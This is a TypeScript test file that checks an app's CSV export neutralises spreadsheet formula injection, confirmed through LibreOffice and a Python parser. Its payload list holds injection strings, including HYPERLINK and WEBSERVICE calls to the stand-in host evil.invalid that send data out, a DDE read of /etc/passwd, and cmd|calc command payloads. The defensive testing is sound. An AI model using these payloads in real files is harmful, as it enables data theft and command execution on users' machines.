import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { systemClock } from '../../electron/adapters/clock/system-clock.ts';
import { event, opened, stationEntry } from '../../electron/adapters/sqlite/testing.ts';
import { safeCell } from '../../electron/domain/csv/cell.ts';

const execute = promisify(execFile);
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'leitstand-spreadsheet-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const commands = [
  '1+1',
  'HYPERLINK("http://evil.invalid/?x="&A1,"open")',
  'WEBSERVICE("http://evil.invalid/")',
  'DDE("soffice";"/etc/passwd";"A1")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  "2+5+cmd|'/c notepad'!A1",
  'IMPORTXML("http://evil.invalid","//a")',
  'A1&";"&B1',
  '1-1"quoted"',
];
const begins = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '=\n=',
  ' =',
  '";=',
  ',=',
  '";"=',
  '\ufeff=',
  '=\t=',
  '"="',
  '-5+',
  '=-',
  '@@',
  '%0A=',
  '=;=',
  '\v=',
  '\u00a0=',
  '\u200b=',
  '==',
];
/** Three hundred cells that somebody may have put into a name. */
const hostile = begins.flatMap((begin) => commands.map((command) => `${begin}${command}`));

async function exported(separator: ';' | ',' | 'tab'): Promise<string> {
  const database = await opened({ file: join(folder, `${separator}.db`), clock: systemClock() });
  const path = join(folder, `${separator === ';' ? 'semicolon' : separator === ',' ? 'comma' : 'tab'}.csv`);
  try {
    const events = hostile.map((name, i) => event(i + 1, { type: 'access.denied', value: { name, reason: name } }));
    const cold = event(hostile.length + 1, { type: 'threshold.exceeded', value: { metric: 'temperature', value: -5 } });
    await database.journal.commit({
      events: [...events, cold],
      samples: [],
      entries: [stationEntry({ actor: '=1+1' })],
    });
    const csv = {
      form: { separator, mark: true },
      language: 'en',
      timeZone: 'UTC',
      names: new Map([['node-1', '=1+1']]),
    } as const;
    await database.exporter.exportCsv(
      { path, filter: {}, csv },
      { onStop: () => undefined, progress: () => undefined },
    );
  } finally {
    await database.close();
  }
  return path;
}

/** Opens CSV files as a person would who lets LibreOffice evaluate formulas, and gives back their cells as flat XML. */
async function openedBySpreadsheet(...paths: readonly string[]): Promise<string[]> {
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
  const how = '--infilter=CSV:59,34,76,1,,1033,false,true,false,false,false,-1,true';
  const into = ['--headless', how, '--convert-to', 'fods', '--outdir', folder];
  await execute('soffice', [profile, ...into, ...paths], { timeout: 90_000 });
  return paths.map((path) => readFileSync(path.replace(/csv$/, 'fods'), 'utf8'));
}

it('opens three hundred hostile cells in LibreOffice without one formula, and −5 as a number', {
  timeout: 120_000,
}, async () => {
  expect(new Set(hostile).size).toBe(300);
  // That a formula would be seen is shown by a file that has one.
  const control = join(folder, 'control.csv');
  writeFileSync(control, 'a;=1+1\r\n');
  const [one = '', cells = ''] = await openedBySpreadsheet(control, await exported(';'));
  expect(one).toMatch(/table:formula=/);
  expect(cells).not.toMatch(/table:formula=|<text:a |table:dde-link/);
  expect(cells.match(/<table:table-row/g)?.length).toBeGreaterThanOrEqual(302);
  expect(cells).toMatch(/office:value-type="float" office:value="-5"/);
});

const reader = `
import csv, json, sys
with open(sys.argv[1], encoding='utf-8-sig', newline='') as file:
    print(json.dumps(list(csv.reader(file, delimiter=sys.argv[2], strict=True))))
`;

it.each([';', ',', 'tab'] as const)(
  'is read back equal by an independent parser, with %s between the cells',
  async (separator) => {
    const path = await exported(separator);
    const { stdout } = await execute('python3', ['-c', reader, path, separator === 'tab' ? '\t' : separator], {
      maxBuffer: 1e8,
    });
    const [head = [], ...rows]: string[][] = JSON.parse(stdout);
    const cell = (row: readonly string[], column: string) => row[head.indexOf(column)] ?? '';
    const denied = rows.filter((row) => cell(row, 'type') === 'access.denied').toReversed();
    expect(denied.map((row) => cell(row, 'person'))).toEqual(hostile.map(safeCell));
    expect(denied.map((row) => cell(row, 'reason'))).toEqual(hostile.map(safeCell));
    expect(denied.map((row) => JSON.parse(cell(row, 'details')))).toEqual(
      hostile.map((name) => ({ name, reason: name })),
    );
    expect(cell(rows.find((row) => cell(row, 'type') === 'threshold.exceeded') ?? [], 'value')).toBe('-5');
    expect(rows.every((row) => row.length === head.length)).toBe(true);
  },
);
